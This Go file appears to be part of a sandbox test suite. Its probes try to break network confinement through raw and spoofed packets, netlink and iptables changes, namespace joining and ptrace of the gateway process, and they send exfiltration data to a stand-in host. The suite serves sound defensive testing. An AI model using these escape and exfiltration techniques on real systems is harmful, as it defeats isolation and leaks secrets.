//go:build linux

package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"
	"unsafe"

	"crypto/tls"

	"golang.org/x/sys/unix"

	"context"

	"github.com/paddock-sandbox/paddock/attack/protocol"
)

// coalesceSecret asks the secret's host for an echo over HTTP/2.
func coalesceSecret(b *protocol.Brief, as string) protocol.Try {
	s := os.Getenv(protocol.SecretEnv)
	tr := &http.Transport{ForceAttemptHTTP2: true, DialTLSContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		d := tls.Dialer{Config: named(protocol.Secret, "h2")}
		return d.DialContext(ctx, "tcp", protocol.Secret+":443")
	}}
	defer tr.CloseIdleConnections()
	req, err := http.NewRequest("GET", "https://"+protocol.Secret+"/ok/echo?as="+as+"&q="+s, http.NoBody)
	if err != nil {
		return refused(err)
	}
	req.Header.Set("Authorization", "Bearer "+s)
	a, err := (&http.Client{Transport: tr, Timeout: 2 * waiting(b)}).Do(req)
	if err != nil {
		return told(err)
	}
	defer a.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(a.Body, 64<<10))
	all := fmt.Sprint(a.Header, "\r\n\r\n", string(body))
	all += "\n" + decoded(all)
	if b.Unconfined && strings.Contains(all, s) {
		return withLoot(reached("the answer holds it"), all)
	}
	return withLoot(inside("it was answered; the host looks for the secret"), all)
}

// packet4 builds an IPv4 packet with a body.
func packet4(from, to string, proto byte, body []byte) []byte {
	p := []byte{0x45, 0, 0, 0, 0, 1, 0, 0, 64, proto, 0, 0}
	p = append(append(p, net.ParseIP(from).To4()...), net.ParseIP(to).To4()...)
	binary.BigEndian.PutUint16(p[2:], uint16(len(p)+len(body)))
	sum := uint32(0)
	for i := 0; i < len(p); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(p[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	binary.BigEndian.PutUint16(p[10:], ^uint16(sum))
	return append(p, body...)
}

// udp4 builds a datagram without a checksum.
func udp4(from, to string, port uint16, data string) []byte {
	b := binary.BigEndian.AppendUint16([]byte{0x30, 0x39}, port)
	b = binary.BigEndian.AppendUint16(b, uint16(8+len(data)))
	return packet4(from, to, unix.IPPROTO_UDP, append(append(b, 0, 0), data...))
}

// rawPackets is N31: hand-made packets, and changes of the network configuration.
func rawPackets() []probe {
	raw := func(domain, typ, proto int) func(*protocol.Brief) protocol.Try {
		return func(*protocol.Brief) protocol.Try {
			fd, err := unix.Socket(domain, typ|unix.SOCK_CLOEXEC, proto)
			if err != nil {
				return refused(err)
			}
			defer unix.Close(fd)
			var tries []protocol.Try
			for _, from := range []string{"198.18.0.2", "198.18.0.1", protocol.HostAddr, "127.0.0.1", "1.1.1.1", "0.0.0.0"} {
				p := udp4(from, "11.0.0.67", 53, exfilData())
				tries = append(tries, done(unix.Sendto(fd, p, 0, &unix.SockaddrInet4{Addr: [4]byte{11, 0, 0, 67}}), "sent a packet from "+from))
			}
			return worst(tries...)
		}
	}
	frames := func(typ int) func(*protocol.Brief) protocol.Try {
		return func(*protocol.Brief) protocol.Try {
			fd, err := unix.Socket(unix.AF_PACKET, typ|unix.SOCK_CLOEXEC, 8)
			if err != nil {
				return refused(err)
			}
			defer unix.Close(fd)
			list, err := net.Interfaces()
			if err != nil {
				return refused(err)
			}
			return each(list, func(i net.Interface) protocol.Try {
				p := udp4("198.18.0.2", "11.0.0.67", 53, exfilData())
				return done(unix.Sendto(fd, p, 0, &unix.SockaddrLinklayer{Ifindex: i.Index, Protocol: 8}), "sent a frame")
			})
		}
	}
	request := func(req uint, name string) func(*protocol.Brief) protocol.Try {
		return func(*protocol.Brief) protocol.Try {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return refused(err)
			}
			defer unix.Close(fd)
			list, _ := net.Interfaces()
			names := []string{"lo"}
			for _, i := range list {
				names = append(names, i.Name)
			}
			return each(names, func(n string) protocol.Try {
				if req == unix.SIOCSIFADDR {
					n += ":9" // besides its own
				}
				r, err := unix.NewIfreq(n)
				if err != nil {
					return refused(err)
				}
				if req == unix.SIOCSIFADDR {
					_ = r.SetInet4Addr([]byte{198, 18, 0, 9})
				} else {
					r.SetUint32(unix.IFF_UP)
				}
				_, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), uintptr(req), uintptr(unsafe.Pointer(r)))
				if e != 0 {
					return refused(e)
				}
				return reached("%s of %s was set", name, n)
			})
		}
	}
	return []probe{
		{"raw sockets", raw(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)},
		{"raw sockets of a protocol", raw(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_UDP)},
		{"packet sockets", frames(unix.SOCK_DGRAM)},
		{"raw packet sockets", frames(unix.SOCK_RAW)},
		{"spoofed sources", func(b *protocol.Brief) protocol.Try {
			return each([]string{"198.18.0.1", "198.18.0.3", protocol.HostAddr, "1.1.1.1", "127.0.0.1"}, func(from string) protocol.Try {
				fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
				if err != nil {
					return refused(err)
				}
				defer unix.Close(fd)
				_ = unix.SetsockoptInt(fd, unix.SOL_IP, unix.IP_FREEBIND, 1)
				_ = unix.SetsockoptInt(fd, unix.SOL_IP, unix.IP_TRANSPARENT, 1)
				var a unix.SockaddrInet4
				a.Addr = [4]byte(net.ParseIP(from).To4())
				if err := unix.Bind(fd, &a); err != nil {
					return refused(err)
				}
				err = unix.Sendto(fd, []byte(exfilData()), 0, &unix.SockaddrInet4{Port: 53, Addr: [4]byte{11, 0, 0, 67}})
				if err != nil {
					return refused(err)
				}
				return inside("it was sent; the host looks")
			})
		}},
		{"another tunnel", func(*protocol.Brief) protocol.Try {
			return each([]string{"/dev/net/tun", "/dev/tun", "/dev/tap", "/dev/vhost-net"}, func(p string) protocol.Try {
				fd, err := unix.Open(p, unix.O_RDWR|unix.O_CLOEXEC, 0)
				if err != nil {
					return refused(err)
				}
				defer unix.Close(fd)
				list, _ := net.Interfaces()
				names := []string{""}
				for _, i := range list {
					names = append(names, i.Name)
				}
				return each(names, func(n string) protocol.Try {
					r, err := unix.NewIfreq(n)
					if err != nil {
						return refused(err)
					}
					r.SetUint16(unix.IFF_TUN | unix.IFF_NO_PI)
					_, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TUNSETIFF, uintptr(unsafe.Pointer(r)))
					if e != 0 {
						return refused(e)
					}
					return reached("attached to %q", n)
				})
			})
		}},
		{"an address of our choice", request(unix.SIOCSIFADDR, "the address")},
		{"flags of interfaces", request(unix.SIOCSIFFLAGS, "the state")},
		{"routes", func(*protocol.Brief) protocol.Try { return netlinkRequest(unix.RTM_NEWROUTE) }},
		{"links", func(*protocol.Brief) protocol.Try { return netlinkRequest(unix.RTM_NEWLINK) }},
		{"addresses by netlink", func(*protocol.Brief) protocol.Try { return netlinkRequest(unix.RTM_NEWADDR) }},
		{"rules of the filter", func(*protocol.Brief) protocol.Try {
			fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_NETFILTER)
			if err != nil {
				return refused(err)
			}
			unix.Close(fd)
			return inside("a socket, and nothing with it")
		}},
		{"settings of the network", func(*protocol.Brief) protocol.Try {
			return each([]string{"ipv4/ip_forward", "ipv4/ip_nonlocal_bind", "ipv4/conf/all/accept_local", "ipv4/conf/all/route_localnet", "ipv4/conf/all/rp_filter", "ipv6/conf/all/forwarding", "ipv4/ping_group_range"}, func(n string) protocol.Try {
				name := "/proc/sys/net/" + n
				was, err := os.ReadFile(name)
				if err != nil {
					return refused(err)
				}
				return done(os.WriteFile(name, was, 0o644), "wrote it")
			})
		}},
		{"the network of others", func(*protocol.Brief) protocol.Try {
			return each([]string{"/proc/1/ns/net", "/proc/2/ns/net", "/run/netns/x", "/var/run/netns/x", "/proc/self/task/1/ns/net"}, func(p string) protocol.Try {
				fd, err := unix.Open(p, unix.O_RDONLY|unix.O_CLOEXEC, 0)
				if err != nil {
					return refused(err)
				}
				defer unix.Close(fd)
				return done(unix.Setns(fd, unix.CLONE_NEWNET), "joined it")
			})
		}},
		{"programs for it", func(*protocol.Brief) protocol.Try {
			return each([]string{"ip link add d0 type dummy", "ip route add 1.2.3.4 dev lo", "iptables -P OUTPUT ACCEPT", "nft add table t", "ip addr add 198.18.0.9/32 dev lo", "ip link set lo up"}, func(l string) protocol.Try {
				f := strings.Fields(l)
				out, err := exec.Command(f[0], f[1:]...).CombinedOutput()
				if err != nil {
					return protocol.Try{Outcome: protocol.Denied, Errno: "failed", Detail: fmt.Sprintf("%v: %s", err, short(out))}
				}
				return reached("it worked")
			})
		}},
	}
}

// netlinkRequest asks for a change with invalid content, to see how far it gets.
func netlinkRequest(kind uint16) protocol.Try {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_ROUTE)
	if err != nil {
		return refused(err)
	}
	defer unix.Close(fd)
	msg := make([]byte, 16+32)
	binary.NativeEndian.PutUint32(msg, uint32(len(msg)))
	binary.NativeEndian.PutUint16(msg[4:], kind)
	binary.NativeEndian.PutUint16(msg[6:], unix.NLM_F_REQUEST|unix.NLM_F_ACK|unix.NLM_F_CREATE)
	if err := unix.Sendto(fd, msg, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return refused(err)
	}
	buf := make([]byte, 4096)
	n, _, err := unix.Recvfrom(fd, buf, 0)
	if err != nil {
		return refused(err)
	}
	if n < 20 {
		return refused(io.ErrUnexpectedEOF)
	}
	e := syscall.Errno(-int32(binary.NativeEndian.Uint32(buf[16:])))
	if e == 0 {
		return reached("it was done")
	}
	return passed(e, unix.EINVAL, unix.ENODEV, unix.EAFNOSUPPORT, unix.EEXIST, unix.ERANGE, unix.EOPNOTSUPP)
}

// otherPackets is N32: packets other than connections, and datagrams to an allowed port.
func otherPackets() []probe {
	strange := []string{"11.0.0.67", "11.0.0.8", protocol.InternetAddr, "8.8.8.8", "255.255.255.255", "224.0.0.251", "198.18.255.255", "2a00:2::2", "ff02::fb", "ff0e::1", "127.0.0.1", protocol.HostAddr}
	return []probe{
		{"datagrams to anything", func(b *protocol.Brief) protocol.Try {
			var list []string
			for _, a := range strange {
				for _, p := range []string{"53", "123", "443", "4444", "5353"} {
					list = append(list, net.JoinHostPort(a, p))
				}
			}
			return atOnce(list, func(to string) protocol.Try { return datagram(b, to, []byte(exfilData())) })
		}},
		{"datagrams of names", func(b *protocol.Brief) protocol.Try {
			return atOnce([]string{protocol.Allowed, protocol.InWild, protocol.Inspect, protocol.Secret}, func(h string) protocol.Try {
				return atOnce([]string{":53", ":443", ":4444", ":80"}, func(p string) protocol.Try { return datagram(b, h+p, []byte(exfilData())) })
			})
		}},
		{"echoes", func(b *protocol.Brief) protocol.Try {
			return each(append(strange[:4:4], "127.0.0.1", protocol.Gateway6), func(a string) protocol.Try {
				network, kind := "udp4", byte(8)
				domain, proto := unix.AF_INET, unix.IPPROTO_ICMP
				if strings.Contains(a, ":") {
					network, kind, domain, proto = "udp6", 128, unix.AF_INET6, unix.IPPROTO_ICMPV6
				}
				fd, err := unix.Socket(domain, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, proto)
				if err != nil {
					return refused(err)
				}
				f := os.NewFile(uintptr(fd), network)
				defer f.Close()
				msg := append([]byte{kind, 0, 0, 0, 0, 0, 0, 1}, exfilData()...)
				var to unix.Sockaddr = &unix.SockaddrInet6{Addr: [16]byte(net.ParseIP(a).To16())}
				if domain == unix.AF_INET {
					to = &unix.SockaddrInet4{Addr: [4]byte(net.ParseIP(a).To4())}
				}
				if err := unix.Sendto(fd, msg, 0, to); err != nil {
					return refused(err)
				}
				return inside("it was sent; the host looks")
			})
		}},
		{"in pieces", func(b *protocol.Brief) protocol.Try {
			return each([]int{2000, 9000, 60000}, func(n int) protocol.Try {
				c, err := net.Dial("udp", "11.0.0.67:53")
				if err != nil {
					return refused(err)
				}
				defer c.Close()
				_, err = c.Write(make([]byte, n))
				if err != nil {
					return refused(err)
				}
				return inside("%d bytes were sent; the host looks", n)
			})
		}},
		{"other transports", func(b *protocol.Brief) protocol.Try {
			return each([][2]int{{unix.SOCK_STREAM, unix.IPPROTO_SCTP}, {unix.SOCK_SEQPACKET, unix.IPPROTO_SCTP}, {unix.SOCK_DGRAM, unix.IPPROTO_UDPLITE}, {unix.SOCK_DCCP, unix.IPPROTO_DCCP}, {unix.SOCK_STREAM, unix.IPPROTO_MPTCP}}, func(k [2]int) protocol.Try {
				fd, err := unix.Socket(unix.AF_INET, k[0]|unix.SOCK_CLOEXEC, k[1])
				if err != nil {
					return refused(err)
				}
				defer unix.Close(fd)
				tv := unix.NsecToTimeval(waiting(b).Nanoseconds() / 2)
				_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &tv)
				to := &unix.SockaddrInet4{Port: 80, Addr: [4]byte{11, 0, 0, 67}}
				if err := unix.Connect(fd, to); err != nil {
					return refused(err)
				}
				if _, err := unix.Write(fd, []byte(exfilData())); err != nil {
					return refused(err)
				}
				return inside("it was sent; the host looks")
			})
		}},
		{"broadcasts", func(*protocol.Brief) protocol.Try {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return refused(err)
			}
			defer unix.Close(fd)
			_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1)
			if err := unix.Sendto(fd, []byte(exfilData()), 0, &unix.SockaddrInet4{Port: 4444, Addr: [4]byte{255, 255, 255, 255}}); err != nil {
				return refused(err)
			}
			return inside("it was sent; the host looks")
		}},
	}
}

// standIns is N33: synthetic addresses that no query returned.
func standIns() []probe {
	page := web(protocol.Stranger, "/")
	return []probe{
		{"those of the first names", func(b *protocol.Brief) protocol.Try {
			var list []string
			for n := range 40 {
				list = append(list, fmt.Sprintf("198.18.1.%d:80", 60+n), fmt.Sprintf("[fd7a:6f74::1:%x]:80", 60+n))
			}
			return atOnce(list, func(to string) protocol.Try { return direct(b, "tcp", to, page) })
		}},
		{"those between", func(b *protocol.Brief) protocol.Try {
			return atOnce([]string{"198.18.0.0", "198.18.0.3", "198.18.0.255", "198.19.255.255", "198.20.0.0", "198.17.255.255", "198.18.255.1", "fd7a:6f74::", "fd7a:6f74::3", "fd7a:6f74:1::1", "fd7a:6f74::2:0", "fd7a:6f73::1"}, func(a string) protocol.Try {
				return direct(b, "tcp", net.JoinHostPort(a, "80"), page)
			})
		}},
		{"of a name that was refused", func(b *protocol.Brief) protocol.Try {
			_ = ask(b, "udp", gatewayDNS, question(1, nil, "stranger", "test"))
			return anyWay(b, protocol.Stranger)
		}},
		{"on a port that is not allowed", func(b *protocol.Brief) protocol.Try {
			addrs, err := net.LookupHost(protocol.Allowed)
			if err != nil {
				return told(err)
			}
			return atOnce(addrs, func(a string) protocol.Try {
				return atOnce([]string{"25", "8080", "853", "53"}, func(p string) protocol.Try { return direct(b, "tcp", net.JoinHostPort(a, p), page) })
			})
		}},
		{"through the proxies", func(b *protocol.Brief) protocol.Try {
			addrs, err := net.LookupHost(protocol.Allowed)
			if err != nil || b.Unconfined {
				return anyWays(b, "198.18.1.99", "11.0.0.67")
			}
			return atOnce(addrs, func(a string) protocol.Try {
				t := anyWay(b, a)
				if t.Outcome == protocol.Reached && !contains(t, protocol.HostBanner) {
					return inside("it stands for a name that is allowed")
				}
				return t
			})
		}},
		{"more names than there are addresses", func(b *protocol.Brief) protocol.Try {
			c, err := net.Dial("udp", gatewayDNS)
			if err != nil {
				return told(err)
			}
			defer c.Close()
			for n := range 5000 {
				if _, err := c.Write(question(1, nil, "n"+strconv.Itoa(n), "wild", "test")); err != nil {
					break
				}
			}
			return anyWays(b, protocol.Stranger, "198.18.200.1")
		}},
	}
}

// carrierProcess is N34: the gateway's process.
func carrierProcess() []probe {
	pid := func(b *protocol.Brief) int {
		if b.Unconfined {
			return b.Canary.PID
		}
		return b.Gateway
	}
	file := func(name string) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			fd, err := unix.Open(fmt.Sprintf("/proc/%d/%s", pid(b), name), unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				return refused(err)
			}
			unix.Close(fd)
			return reached("opened it")
		}
	}
	return []probe{
		{"signal", func(b *protocol.Brief) protocol.Try { return done(unix.Kill(pid(b), 0), "it could be ended") }},
		{"pidfd", func(b *protocol.Brief) protocol.Try {
			fd, err := unix.PidfdOpen(pid(b), 0)
			if err != nil {
				return refused(err)
			}
			defer unix.Close(fd)
			return done(unix.PidfdSendSignal(fd, 0, nil, 0), "it could be ended")
		}},
		{"memory", file("mem")},
		{"environment", file("environ")},
		{"descriptors", file("fd")},
		{"maps", file("maps")},
		{"trace", func(b *protocol.Brief) protocol.Try {
			err := unix.PtraceSeize(pid(b))
			if err == nil {
				_ = unix.PtraceDetach(pid(b))
			}
			return done(err, "it can be traced")
		}},
		{"read its memory by a call", func(b *protocol.Brief) protocol.Try {
			buf := make([]byte, 8)
			_, err := unix.ProcessVMReadv(pid(b), []unix.Iovec{{Base: &buf[0], Len: 8}}, []unix.RemoteIovec{{Base: 0x400000, Len: 8}}, 0)
			return passed(err, unix.EFAULT)
		}},
		{"by its name", func(b *protocol.Brief) protocol.Try {
			for _, name := range names("/proc") {
				line, err := os.ReadFile("/proc/" + name + "/cmdline")
				if err != nil {
					continue
				}
				if strings.HasPrefix(string(line), "paddock-gateway") || b.Unconfined && strings.Contains(string(line), "canary\x00"+b.Marker) {
					return reached("it is process %s", name)
				}
			}
			return refused(unix.ESRCH)
		}},
		{"its sockets", func(b *protocol.Brief) protocol.Try {
			return each([]string{"tcp", "tcp6", "unix", "udp", "packet", "raw"}, func(n string) protocol.Try {
				data, err := os.ReadFile("/proc/net/" + n)
				if err != nil {
					return refused(err)
				}
				if strings.Contains(string(data), "paddock") || strings.Contains(string(data), b.Canary.Abstract) {
					return reached("the host's sockets are listed")
				}
				return protocol.Try{Outcome: protocol.Denied, Errno: "unseen"}
			})
		}},
		{"debugging ports", func(b *protocol.Brief) protocol.Try {
			if b.Unconfined {
				return absent("there is none")
			}
			return atOnce([]string{"6060", "2345", "8081", "9090", "9229"}, func(p string) protocol.Try {
				return atOnce([]string{protocol.GatewayAddr, protocol.Gateway6}, func(a string) protocol.Try {
					return direct(b, "tcp", net.JoinHostPort(a, p), web("x", "/debug/pprof/"))
				})
			})
		}},
		{"a packet that it cannot read", func(b *protocol.Brief) protocol.Try {
			return each([]string{"", "\x00", strings.Repeat("\xff", 1400), strings.Repeat("a", 60000)}, func(data string) protocol.Try {
				c, err := net.Dial("udp", protocol.GatewayAddr+":53")
				if err != nil {
					return told(err)
				}
				defer c.Close()
				_, err = io.WriteString(c, data)
				if err != nil && !errors.Is(err, unix.ECONNREFUSED) {
					return refused(err)
				}
				return inside("it was sent")
			})
		}},
	}
}
